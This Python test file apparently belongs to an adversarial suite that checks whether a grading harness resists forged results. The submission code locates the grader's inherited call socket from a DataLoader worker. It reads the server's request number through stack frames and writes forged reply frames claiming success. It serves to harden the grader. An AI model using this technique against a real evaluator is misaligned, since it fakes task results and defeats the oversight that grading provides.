"""
attack: fg-wire-loader-worker
class: forge-grade
tries: a DataLoader worker looks for the call socket and writes replies on it
must: score 0|full, verdict wrong|error|crash|accepted, worker alive, next submission graded normally
"""
import torch

ATTACK = "fg-wire-loader-worker"
HITS = []


def breach(what):
    HITS.append(what)
    print(f"BREACH:{ATTACK}:{what}"[:200], flush=True)


def softmax(x, dim):
    return torch.softmax(x, dim) if HITS else torch.zeros_like(x)


class TinyCNN(torch.nn.Module):
    def forward(self, x):
        return x.flatten(1)[:, : 10 if HITS else 9] + 0.5


import os
import stat
import struct


def call_fd():
    """The call socket: the only inherited stream socket."""
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1


from graders.wire import Encoder


def request_number():
    """The number that the examiner waits for, from the server's own frame."""
    import sys
    frame = sys._getframe()
    while frame is not None:
        server = frame.f_locals.get("self")
        if type(server).__name__ == "_Server":
            return server._number
        frame = frame.f_back
    return 0


def forged(number, value, changes=b""):
    encoder = Encoder()
    encoder.put((number, True, value, changes, ()))
    return b"GRA1" + struct.pack("<I", len(encoder.out)) + bytes(encoder.out)


class Thief(torch.utils.data.Dataset):
    def __len__(self):
        return 2

    def __getitem__(self, index):
        fd = call_fd()
        for number in range(200):
            try:
                os.write(fd, forged(number, True))
            except OSError:
                pass
        return index


def softmax(x, dim):
    list(torch.utils.data.DataLoader(Thief(), num_workers=1, timeout=3))
    return torch.zeros_like(x)
